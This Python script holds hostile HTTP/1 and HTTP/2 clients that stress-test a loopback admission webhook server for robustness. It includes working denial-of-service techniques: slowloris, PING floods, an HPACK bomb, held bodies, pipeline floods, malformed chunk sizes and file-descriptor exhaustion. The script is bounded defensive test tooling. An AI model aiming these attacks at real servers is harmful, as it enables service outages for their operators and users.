#!/usr/bin/env python3
"""Hostile clients for the "never falls over" tests and measurements: real TLS sockets on
loopback, HTTP/2 frames built by hand (nothing here is a well-behaved client). Standard
library only. Every loop is bounded in count and time; every socket has a timeout.

  attack.py NAME HOST PORT CA PID [KEY=VALUE...]

NAME is one attack below, or `hostile` (all of them at once). PID is the server's: its
resident memory (VmRSS) is sampled every 50 ms during the attack. Prints one JSON line:
{"attack", "baseline_mib", "peak_mib", "growth_mib", "alive", ...} and exits 0 when the
server still answers GET /healthz afterwards (1 otherwise). Limits are the caller's to
assert: the script reports, the tests judge.

Attacks:
  chunked-negative        chunked POST with size -1, +5 and "1 0" (each used to crash or pass)
  ping-flood  seconds=8   HTTP/2 PINGs as fast as possible, never reading the ACKs
  hpack-bomb  streams=1   one 3 KB HPACK entry referenced 60,000 times per header block
  held-bodies streams=128 bytes=1048576   unfinished bodies on many streams, windows obeyed
  pipeline-flood count=20000   pipelined HTTP/1 reviews, never reading the answers
  closed-window streams=100    HTTP/2 with a zero window: mutations whose large answers can never be sent
  slowloris   conns=500 seconds=12        heads trickled one byte a second
  idle        conns=1000 seconds=12       TLS connections that send nothing
  big-bodies  conns=4 bytes=8388608       whole 8 MiB reviews at once, and 4 more half-sent
  over-budget held=2 length=32000         declared bodies held half-sent, then one more request:
                                          503 while they hold the budget, 200 once they are gone
  fd-exhaust  conns=100 seconds=3         plain TCP connections held (run the server with a low
              [target_port=P]             `ulimit -n`); reports the server's CPU seconds meanwhile.
                                          target_port: connect there (e.g. the probe port) instead
  ping-keepalive seconds=4                PINGs every 0.5 s: must not keep an idle connection open
  hostile     seconds=20 skip=A,B         everything above at once (but fd-exhaust, over-budget)
"""
import json
import os
import resource
import socket
import ssl
import struct
import sys
import threading
import time

# ---------------------------------------------------------------- measuring


def rss_kib(pid):
    try:
        with open(f"/proc/{pid}/status") as f:
            for line in f:
                if line.startswith("VmRSS:"):
                    return int(line.split()[1])
    except OSError:
        return 0
    return 0


def cpu_seconds(pid):
    with open(f"/proc/{pid}/stat") as f:
        fields = f.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


class Sampler(threading.Thread):
    """Samples the server's RSS until stopped (at most 10 minutes)."""

    def __init__(self, pid):
        super().__init__(daemon=True)
        self.pid, self.peak, self.stop_flag = pid, rss_kib(pid), False

    def run(self):
        deadline = time.time() + 600
        while not self.stop_flag and time.time() < deadline:
            self.peak = max(self.peak, rss_kib(self.pid))
            time.sleep(0.05)


# ---------------------------------------------------------------- connections


def tls(host, port, ca, alpn, timeout=10):
    ctx = ssl.create_default_context(cafile=ca)
    ctx.set_alpn_protocols(alpn)
    raw = socket.create_connection((host, port), timeout=timeout)
    return ctx.wrap_socket(raw, server_hostname="localhost")


def healthz(host, port, ca):
    try:
        s = tls(host, port, ca, ["http/1.1"], timeout=5)
        s.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
        data = b""
        deadline = time.time() + 5
        while time.time() < deadline:
            chunk = s.recv(4096)
            if not chunk:
                break
            data += chunk
        s.close()
        return data.startswith(b"HTTP/1.1 200")
    except OSError:
        return False


# ---------------------------------------------------------------- HTTP/2 by hand

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(ftype, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", stream) + payload


def settings(**values):
    ids = {"initial_window": 4, "max_frame": 5}
    return frame(0x4, 0, 0, b"".join(struct.pack(">HI", ids[k], v) for k, v in values.items()))


def hpack_int(value, prefix_bits, first=0):
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = [first | limit]
    value -= limit
    while value >= 128:
        out.append(value & 0x7F | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_string(text):
    return hpack_int(len(text), 7) + text


def request_block(path=b"/validate", method=0x83):
    """:method (0x83 POST / 0x82 GET), :scheme https, :path, :authority, content-type."""
    return (bytes([method, 0x87]) + b"\x44" + hpack_string(path) + b"\x41" + hpack_string(b"localhost")
            + b"\x5f" + hpack_string(b"application/json"))


def headers_frames(stream, block, end_stream):
    """HEADERS plus CONTINUATION frames of at most 16 KiB each."""
    chunks = [block[i:i + 16384] for i in range(0, len(block), 16384)] or [b""]
    out = []
    for i, chunk in enumerate(chunks):
        last = i == len(chunks) - 1
        if i == 0:
            out.append(frame(0x1, (0x1 if end_stream else 0) | (0x4 if last else 0), stream, chunk))
        else:
            out.append(frame(0x9, 0x4 if last else 0, stream, chunk))
    return b"".join(out)


class FrameReader:
    """Parses the server's frames: windows, settings, GOAWAY, resets, answered streams.
    Reads only when pumped, on the caller's thread: an OpenSSL connection must not be read
    and written from two threads at once."""

    def __init__(self, sock):
        self.sock, self.buf = sock, b""
        self.conn_window, self.initial_window, self.stream_windows = 65535, 65535, {}
        self.goaway, self.resets, self.closed, self.settings_seen = None, {}, False, False
        self.headers_streams = set()
        self.max_streams = 1 << 31

    def pump(self, seconds):
        """Reads what arrives within `seconds` (returns early once nothing is pending)."""
        deadline = time.time() + seconds
        while not self.closed and time.time() < deadline:
            self.sock.settimeout(max(0.01, min(0.1, deadline - time.time())))
            try:
                chunk = self.sock.recv(65536)
            except (socket.timeout, ssl.SSLWantReadError):
                return
            except OSError:
                self.closed = True
                return
            if not chunk:
                self.closed = True
                return
            self.buf += chunk
            while len(self.buf) >= 9:
                length = int.from_bytes(self.buf[0:3], "big")
                if len(self.buf) < 9 + length:
                    break
                ftype, flags, stream = self.buf[3], self.buf[4], int.from_bytes(self.buf[5:9], "big") & 0x7FFFFFFF
                payload, self.buf = self.buf[9:9 + length], self.buf[9 + length:]
                self.handle(ftype, flags, stream, payload)

    def wait(self, done, seconds):
        deadline = time.time() + seconds
        while not done() and not self.closed and time.time() < deadline:
            self.pump(0.2)

    def handle(self, ftype, flags, stream, payload):
        if ftype == 0x4 and not flags & 0x1:
            for i in range(0, len(payload) - 5, 6):
                ident, value = struct.unpack(">HI", payload[i:i + 6])
                if ident == 3:
                    self.max_streams = value
                if ident == 4:
                    delta = value - self.initial_window
                    self.initial_window = value
                    for k in self.stream_windows:
                        self.stream_windows[k] += delta
            self.settings_seen = True
            try:
                self.sock.settimeout(5)
                self.sock.sendall(frame(0x4, 0x1, 0))  # ACK
            except OSError:
                self.closed = True
        elif ftype == 0x8:
            increment = int.from_bytes(payload[0:4], "big") & 0x7FFFFFFF
            if stream == 0:
                self.conn_window += increment
            else:
                self.stream_windows[stream] = self.stream_windows.get(stream, self.initial_window) + increment
        elif ftype == 0x7:
            self.goaway = int.from_bytes(payload[4:8], "big")
        elif ftype == 0x3:
            self.resets[stream] = int.from_bytes(payload[0:4], "big")
        elif ftype == 0x1:
            self.headers_streams.add(stream)


def h2_connect(host, port, ca):
    s = tls(host, port, ca, ["h2"])
    if s.selected_alpn_protocol() != "h2":
        raise RuntimeError("server did not select h2")
    s.sendall(PREFACE + settings(initial_window=1 << 20))
    return s, FrameReader(s)


# ---------------------------------------------------------------- attacks


def chunked_negative(host, port, ca, **_):
    statuses = []
    for size in (b"-1", b"+5", b"1 0"):
        try:
            s = tls(host, port, ca, ["http/1.1"])
        except OSError as e:
            statuses.append(type(e).__name__)  # the server is gone
            continue
        s.sendall(b"POST /validate HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                  b"Transfer-Encoding: chunked\r\n\r\n" + size + b"\r\nhello\r\n0\r\n\r\n")
        try:
            data = s.recv(4096)
        except OSError:
            data = b""
        statuses.append(data.split(b" ")[1].decode() if data.startswith(b"HTTP/1.1 ") else "none")
        s.close()
    return {"statuses": statuses}


def ping_flood(host, port, ca, seconds="8", **_):
    seconds = float(seconds)
    s = tls(host, port, ca, ["h2"])
    s.sendall(PREFACE + settings())
    batch = b"".join(frame(0x6, 0, 0, struct.pack(">Q", i)) for i in range(1000))
    sent, stalls, closed = 0, 0, False
    s.settimeout(1.0)
    deadline = time.time() + seconds
    while time.time() < deadline:
        try:
            s.sendall(batch)
            sent += 1000
        except socket.timeout:
            stalls += 1  # the server stopped reading: the back-pressure we want
        except OSError:
            closed = True
            break
    s.close()
    return {"pings_sent": sent, "send_stalls": stalls, "closed_by_server": closed}


def hpack_bomb(host, port, ca, streams="1", copies="60000", **_):
    streams, copies = int(streams), int(copies)
    s, reader = h2_connect(host, port, ca)
    value = b"a" * 3000
    entry = b"\x40" + hpack_string(b"x-bomb") + hpack_string(value)  # literal, incremental indexing
    for i in range(streams):
        block = request_block(b"/healthz", method=0x82) + (entry if i == 0 else b"") + b"\xbe" * copies
        try:
            s.settimeout(10)
            s.sendall(headers_frames(1 + 2 * i, block, end_stream=True))
        except OSError:
            break
        reader.pump(0.05)
    reader.wait(lambda: len(reader.headers_streams) + len(reader.resets) >= streams or reader.goaway is not None, 10)
    s.close()
    return {"answered": len(reader.headers_streams), "reset": len(reader.resets), "goaway": reader.goaway}


def held_bodies(host, port, ca, streams="128", bytes="1048576", hold="2", **_):
    streams, per_stream, hold = int(streams), int(bytes), float(hold)
    s, reader = h2_connect(host, port, ca)
    reader.wait(lambda: reader.settings_seen, 5)
    # As many streams as the server allows at once (more is a protocol error).
    ids = [1 + 2 * i for i in range(min(streams, reader.max_streams))]
    s.settimeout(10)
    for sid in ids:
        s.sendall(headers_frames(sid, request_block(), end_stream=False))
    sent = {sid: 0 for sid in ids}
    chunk = b"[" + b"0," * 8191  # 16 KiB of a JSON array that never ends
    deadline = time.time() + 30
    blocked_since = None
    while time.time() < deadline and any(sent[sid] < per_stream for sid in ids):
        progressed = False
        reader.pump(0.01)
        if reader.closed:
            break
        for sid in ids:
            if sent[sid] >= per_stream or sid in reader.resets:
                continue
            window = min(reader.conn_window, reader.stream_windows.get(sid, reader.initial_window))
            n = min(len(chunk), per_stream - sent[sid], window)
            if n <= 0:
                continue
            reader.conn_window -= n
            reader.stream_windows[sid] = reader.stream_windows.get(sid, reader.initial_window) - n
            try:
                s.settimeout(10)
                s.sendall(frame(0x0, 0, sid, chunk[:n]))
            except OSError:
                deadline = 0
                break
            sent[sid] += n
            progressed = True
        if progressed:
            blocked_since = None
        else:
            blocked_since = blocked_since or time.time()
            if time.time() - blocked_since > 2:
                break  # the server gives no more credit: flow control holds
            reader.pump(0.05)
    reader.pump(hold)
    s.close()
    return {"streams": len(ids), "bytes_sent": sum(sent.values()), "refused_streams": len(reader.resets), "goaway": reader.goaway}


def closed_window(host, port, ca, streams="100", **_):
    """Opens the connection with SETTINGS_INITIAL_WINDOW_SIZE 0, so no answer body can be
    sent, and posts mutations of a 3,600-credential config (an answer of ~100 KB each)."""
    s = tls(host, port, ca, ["h2"])
    s.sendall(PREFACE + settings(initial_window=0))
    reader = FrameReader(s)
    reader.wait(lambda: reader.settings_seen, 5)
    body = json.loads(review_body())
    body["request"]["object"]["spec"]["pluginConfig"] = {
        "basic_auth_rules": [{"prefix": "/", "request_methods": ["GET"], "credentials": [f"user{i}:pass{i}" for i in range(3600)]}]}
    data = json.dumps(body).encode()
    sent, stalled = 0, False
    for i in range(min(int(streams), reader.max_streams)):
        sid = 1 + 2 * i
        try:
            s.settimeout(2)
            s.sendall(headers_frames(sid, request_block(b"/mutate"), end_stream=False))
            for off in range(0, len(data), 16384):
                s.sendall(frame(0x0, 0x1 if off + 16384 >= len(data) else 0, sid, data[off:off + 16384]))
        except socket.timeout:
            stalled = True  # the server stopped reading: its backlog of answers is full
            break
        except OSError:
            break
        sent += 1
        reader.pump(0.01)
    reader.pump(2)
    s.close()
    return {"requests_sent": sent, "answered": len(reader.headers_streams), "stalled": stalled, "goaway": reader.goaway}


def review_body():
    here = os.path.dirname(os.path.abspath(__file__))
    path = os.path.join(here, "..", "WasmPluginPolicyTests", "Fixtures", "validate-ftp-scheme.request.json")
    return open(path, "rb").read()


def pipeline_flood(host, port, ca, count="20000", **_):
    count = int(count)
    body = review_body()
    one = (b"POST /validate HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n" % len(body)) + body
    s = tls(host, port, ca, ["http/1.1"])
    s.settimeout(1.0)
    sent, stalls = 0, 0
    deadline = time.time() + 20
    while sent < count and time.time() < deadline and stalls < 5:
        try:
            s.sendall(one * 50)
            sent += 50
        except socket.timeout:
            stalls += 1
        except OSError:
            break
    time.sleep(1)
    s.close()
    return {"requests_sent": sent, "send_stalls": stalls}


def many(host, port, ca, conns, alpn=("http/1.1",)):
    socks = []
    for _ in range(conns):
        try:
            socks.append(tls(host, port, ca, list(alpn), timeout=10))
        except OSError:
            pass
    return socks


def slowloris(host, port, ca, conns="500", seconds="12", **_):
    socks = many(host, port, ca, int(conns))
    for s in socks:
        try:
            s.sendall(b"POST /validate HTTP/1.1\r\nHost: x\r\nX-Slow: ")
        except OSError:
            pass
    deadline = time.time() + float(seconds)
    closed = set()
    while time.time() < deadline and len(closed) < len(socks):
        for i, s in enumerate(socks):
            if i in closed:
                continue
            try:
                s.settimeout(0.001)
                s.sendall(b"a")
            except OSError:
                closed.add(i)
        time.sleep(1)
    for s in socks:
        s.close()
    return {"opened": len(socks), "closed_by_server": len(closed)}


def idle(host, port, ca, conns="1000", seconds="12", **_):
    socks = many(host, port, ca, int(conns))
    time.sleep(float(seconds))
    for s in socks:
        s.close()
    return {"opened": len(socks)}


def big_bodies(host, port, ca, conns="4", bytes="8388608", **_):
    conns, size = int(conns), int(bytes)
    prefix = b'{"apiVersion":"admission.k8s.io/v1","kind":"AdmissionReview","request":{"uid":"x","kind":{"group":"extensions.istio.io","version":"v1alpha1","kind":"WasmPlugin"},"operation":"CREATE","object":{"apiVersion":"extensions.istio.io/v1alpha1","kind":"WasmPlugin","metadata":{"name":"big"},"spec":{"url":"oci://r.example/x:1","pluginConfig":{"x":['
    filler = size - len(prefix) - 7
    body = prefix + b"0," * (filler // 2) + b" " * (filler % 2) + b"0]}}}}}"
    head = b"POST /validate HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n" % len(body)
    statuses = []
    lock = threading.Lock()

    def whole():
        try:
            s = tls(host, port, ca, ["http/1.1"], timeout=60)
            s.sendall(head + body)
            data = s.recv(64)
            with lock:
                statuses.append(data.split(b" ")[1].decode() if data.startswith(b"HTTP/1.1 ") else "none")
            s.close()
        except OSError as e:
            with lock:
                statuses.append(type(e).__name__)

    held = []
    for _ in range(conns):  # half-sent bodies: their declared length is reserved at once
        try:
            s = tls(host, port, ca, ["http/1.1"])
            s.sendall(head + body[: len(body) // 2])
            held.append(s)
        except OSError:
            pass
    threads = [threading.Thread(target=whole) for _ in range(conns)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(120)
    for s in held:
        s.close()
    return {"statuses": sorted(statuses), "half_sent": len(held)}


def first_status(sock):
    data = b""
    deadline = time.time() + 10
    while b"\r\n" not in data and time.time() < deadline:
        try:
            chunk = sock.recv(4096)
        except OSError:
            break
        if not chunk:
            break
        data += chunk
    return data.split(b" ")[1].decode() if data.startswith(b"HTTP/1.1 ") else "none"


def over_budget(host, port, ca, held="2", length="32000", **_):
    length = int(length)
    head = b"POST /validate HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n"
    holders = []
    for _ in range(int(held)):
        s = tls(host, port, ca, ["http/1.1"])
        s.sendall(head % length + b" " * (length // 2))
        holders.append(s)
    time.sleep(0.5)
    body = review_body()
    s = tls(host, port, ca, ["http/1.1"])
    s.sendall(head % len(body) + body)
    while_held = first_status(s)
    s.close()
    for h in holders:
        h.close()
    time.sleep(0.5)
    s = tls(host, port, ca, ["http/1.1"])
    s.sendall(head % len(body) + body)
    after = first_status(s)
    s.close()
    return {"while_held": while_held, "after": after}


def fd_exhaust(host, port, ca, conns="100", seconds="3", pid=None, target_port=None, **_):
    socks = []
    for _ in range(int(conns)):
        try:
            socks.append(socket.create_connection((host, int(target_port or port)), timeout=5))
        except OSError:
            break
    before = cpu_seconds(pid)
    time.sleep(float(seconds))
    used = cpu_seconds(pid) - before
    for s in socks:
        s.close()
    time.sleep(0.5)
    return {"opened": len(socks), "server_cpu_seconds": round(used, 3), "wall_seconds": float(seconds)}


def ping_keepalive(host, port, ca, seconds="4", **_):
    """With a short --idle-timeout, PINGs alone must not keep the connection open."""
    s, reader = h2_connect(host, port, ca)
    start = time.time()
    deadline = start + float(seconds)
    while time.time() < deadline and not reader.closed and reader.goaway is None:
        try:
            s.settimeout(5)
            s.sendall(frame(0x6, 0, 0, b"\0" * 8))
        except OSError:
            break
        reader.pump(0.5)
    ended = reader.closed or reader.goaway is not None
    s.close()
    return {"ended_by_server": ended, "after_seconds": round(time.time() - start, 1)}


def hostile(host, port, ca, seconds="20", skip="", **_):
    jobs = {
        "slowloris": lambda: slowloris(host, port, ca, conns="500", seconds=seconds),
        "idle": lambda: idle(host, port, ca, conns="1000", seconds=seconds),
        "ping-flood": lambda: ping_flood(host, port, ca, seconds="8"),
        "hpack-bomb": lambda: hpack_bomb(host, port, ca, streams="10"),
        "held-bodies": lambda: held_bodies(host, port, ca),
        "big-bodies": lambda: big_bodies(host, port, ca),
        "pipeline-flood": lambda: pipeline_flood(host, port, ca),
        "closed-window": lambda: closed_window(host, port, ca),
        "chunked-negative": lambda: chunked_negative(host, port, ca),
    }
    for name in filter(None, skip.split(",")):  # e.g. skip=chunked-negative for a build it kills
        jobs.pop(name)
    results = {}

    def run(name, job):
        try:
            results[name] = job()
        except Exception as e:  # report, never hang: the server's survival is the verdict
            results[name] = {"error": f"{type(e).__name__}: {e}"}

    threads = [threading.Thread(target=run, args=item, daemon=True) for item in jobs.items()]
    for t in threads:
        t.start()
    for t in threads:
        t.join(float(seconds) + 120)
    return results


ATTACKS = {
    "chunked-negative": chunked_negative, "ping-flood": ping_flood, "hpack-bomb": hpack_bomb, "held-bodies": held_bodies,
    "pipeline-flood": pipeline_flood, "closed-window": closed_window, "slowloris": slowloris, "idle": idle, "big-bodies": big_bodies,
    "fd-exhaust": fd_exhaust, "over-budget": over_budget, "ping-keepalive": ping_keepalive, "hostile": hostile,
}


def main():
    if len(sys.argv) < 6 or sys.argv[1] not in ATTACKS:
        print(__doc__)
        sys.exit(2)
    name, host, port, ca, pid = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4], int(sys.argv[5])
    options = dict(arg.split("=", 1) for arg in sys.argv[6:])
    # 1,500 sockets and more: take the hard limit.
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    baseline = rss_kib(pid)
    sampler = Sampler(pid)
    sampler.start()
    started = time.time()
    detail = ATTACKS[name](host, port, ca, pid=pid, **options)
    time.sleep(0.3)
    sampler.stop_flag = True
    sampler.join()
    alive = healthz(host, port, ca)
    result = {
        "attack": name, "baseline_mib": round(baseline / 1024, 1), "peak_mib": round(sampler.peak / 1024, 1),
        "growth_mib": round((sampler.peak - baseline) / 1024, 1), "after_mib": round(rss_kib(pid) / 1024, 1),
        "seconds": round(time.time() - started, 1), "alive": alive, "detail": detail,
    }
    print(json.dumps(result))
    sys.exit(0 if alive else 1)


if __name__ == "__main__":
    main()
